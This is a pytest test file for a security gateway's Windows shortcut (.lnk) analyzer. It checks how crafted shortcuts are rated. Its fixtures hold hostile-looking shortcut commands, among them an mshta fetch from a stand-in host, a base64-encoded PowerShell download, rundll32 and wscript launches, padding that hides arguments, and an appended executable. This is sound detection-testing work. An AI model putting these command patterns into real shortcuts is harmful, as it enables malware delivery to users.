"""A shortcut is judged by the command that it gives, not by being one."""

import base64
from dataclasses import replace

import pytest

from gateway.model import Finding, Gap, Level, Reason
from gateway.scan.analyzers.lnk import LnkAnalyzer
from gateway.scan.api import Context
from gateway.scan.kinds import Kind
from tests.support import office
from tests.support.shortcuts import shortcut

POWERSHELL = "%SystemRoot%\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"


def look(data: bytes, *within: Kind) -> list[Finding | Gap]:
    artifact = replace(office.artifact(data, "a.lnk"), within=within)
    return list(LnkAnalyzer().analyze(artifact, Context()))


def judged(data: bytes, *within: Kind) -> list[tuple[str, Level]]:
    return [(seen.code, seen.level) for seen in look(data, *within) if isinstance(seen, Finding)]


@pytest.mark.parametrize(
    "data",
    [
        shortcut(relative_path="..\\..\\Windows\\System32\\cmd.exe", arguments="/c start a.dll"),
        shortcut(expanded="%COMSPEC%", arguments="/c mshta https://a.example/x.hta"),
        shortcut(expanded=POWERSHELL, arguments="-File a.ps1"),
        shortcut(local_path="C:\\Windows\\System32\\rundll32.exe", arguments="a.dll,Run"),
        shortcut(relative_path="a.exe", arguments='x & "C:\\Windows\\System32\\wscript.exe" a.js'),
    ],
)
def test_a_command_for_an_interpreter_is_malicious(data: bytes) -> None:
    assert judged(data) == [("lnk.command", Level.MALICIOUS)]


def test_the_evidence_is_the_command_line_and_what_is_encoded_in_it() -> None:
    encoded = base64.b64encode("iwr https://a.example".encode("utf-16-le")).decode()
    made = shortcut(expanded=POWERSHELL, arguments=f"-w 1 -enc {encoded}", icon="a.pdf")
    (finding,) = look(made)

    assert isinstance(finding, Finding)
    assert finding.evidence.startswith(f"{POWERSHELL} -w 1 -enc ")
    assert "decoded: iwr hxxps://a[.]example; with the icon of a.pdf" in finding.evidence


@pytest.mark.parametrize(
    "data",
    [
        shortcut(share="\\\\server\\share"),
        shortcut(relative_path="\\\\server@80\\DavWWWRoot\\a.exe"),
        shortcut(relative_path="a.txt", icon="\\\\192.0.2.1\\share\\a.ico"),
        shortcut(expanded="https://a.example/"),
    ],
)
def test_a_target_or_an_icon_on_another_machine_is_suspicious(data: bytes) -> None:
    assert judged(data) == [("lnk.remote", Level.SUSPICIOUS)]


def test_blanks_or_length_that_hide_the_command_are_malicious() -> None:
    padded = shortcut(relative_path="a.exe", arguments=" " * 300 + "/b")
    folder = shortcut(relative_path="a.exe", folder="C:\\Windows" + " " * 200 + "a.exe")
    long = shortcut(relative_path="a.exe", arguments="x" * 300)

    for data in (padded, folder, long):
        assert ("lnk.hidden", Level.MALICIOUS) in judged(data)


def test_a_load_behind_the_end_is_suspicious() -> None:
    assert judged(shortcut(relative_path="a.txt", tail=b"MZ" + b"\x90" * 100)) == [
        ("lnk.appended", Level.SUSPICIOUS)
    ]
    assert judged(shortcut(relative_path="a.txt", tail=bytes(500))) == [("lnk.plain", Level.NOTE)]


def test_arguments_for_any_other_program_are_suspicious() -> None:
    made = shortcut(local_path="C:\\Programs\\viewer.exe", arguments="/open a.dcm")

    assert judged(made) == [("lnk.arguments", Level.SUSPICIOUS)]


@pytest.mark.parametrize(
    "data",
    [
        shortcut(relative_path=".\\viewer.exe", description="Viewer"),
        shortcut(local_path="C:\\Users\\a\\Documents\\compte rendu.docx"),
        shortcut(local_path="D:\\commande\\cmd-2024.pdf", share="\\\\PC\\D"),
        shortcut(expanded=POWERSHELL),
    ],
)
def test_a_shortcut_that_only_opens_something_is_a_note(data: bytes) -> None:
    assert judged(data) == [("lnk.plain", Level.NOTE)]


@pytest.mark.parametrize("kind", [Kind.OLE, Kind.OOXML, Kind.ONENOTE, Kind.ISO, Kind.VHD])
def test_a_shortcut_in_a_document_or_a_disk_image_is_suspicious(kind: Kind) -> None:
    data = shortcut(relative_path=".\\viewer.exe")

    assert judged(data, Kind.MESSAGE, kind) == [("lnk.inside", Level.SUSPICIOUS)]
    assert judged(data, Kind.MESSAGE, Kind.ZIP) == [("lnk.plain", Level.NOTE)]


def test_a_shortcut_that_is_cut_is_a_gap() -> None:
    seen = look(shortcut(relative_path="a.txt", arguments="b" * 100)[:120])

    assert [gap.reason for gap in seen if isinstance(gap, Gap)] == [Reason.DAMAGED]
